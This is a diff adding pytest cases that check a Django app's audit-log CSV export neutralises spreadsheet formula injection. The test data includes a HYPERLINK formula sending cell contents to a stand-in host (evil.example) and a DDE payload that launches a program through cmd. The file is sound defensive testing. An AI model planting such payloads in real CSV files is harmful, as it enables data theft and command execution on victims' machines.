@@ -3,6 +3,8 @@ no longer works. (Finding 2, stalls and the circuit breaker, is covered with the
 
 from __future__ import annotations
 
+import csv
+import io
 from io import StringIO
 
 import pytest
@@ -10,6 +12,8 @@ from django.core.management import call_command
 from django.core.management.base import CommandError
 from django.urls import reverse
 
+from jobs import operations
+from jobs.audit import csv_cell
 from jobs.models import AuditEvent, Site
 from jobs.rows import ServiceTarget
 
@@ -115,3 +119,37 @@ def test_finding_4_a_slug_typed_with_a_newline_in_the_admin_is_cleaned(site_admi
     assert client.post(reverse("admin:jobs_site_add"), data).status_code == 302
     site = Site.objects.get()
     assert (site.slug, site.admin_url) == ("north", "https://north.example.com/arcgis/admin")
+
+
+# --- finding 10: CSV formula injection, the remaining cases -------------------------------------------------------
+
+FORMULAS = [
+    ' =HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "\t=1+1",
+    "\r=1+1",
+    "\t1",  # a leading tab or carriage return alone is enough
+    "\r1",
+    "  +1+1",
+    "\n-1+1",
+    "\u00a0@SUM(A1:A2)",
+    '=cmd|" /C calc"!A0',
+    "=1+1",
+]
+PLAIN = ["a=b", "hello -world", "  spaced", "", "1+1"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_finding_10_a_formula_after_whitespace_or_a_control_character_is_neutralised(
+    site, operator, viewer, client_as, value
+):
+    operations.record_site_change(operator, site, value)
+    response = client_as(viewer).get(reverse("jobs:audit_csv"))
+    body = b"".join(response.streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(body, newline="")))
+    assert [row["message"] for row in rows] == ["'" + value]  # quotes, tabs and line breaks survive intact
+
+
+def test_finding_10_plain_text_is_left_alone():
+    assert [csv_cell(value) for value in PLAIN] == PLAIN
+    assert [csv_cell(value) for value in FORMULAS] == ["'" + value for value in FORMULAS]
+    assert csv_cell(None) is None and csv_cell(498) == 498
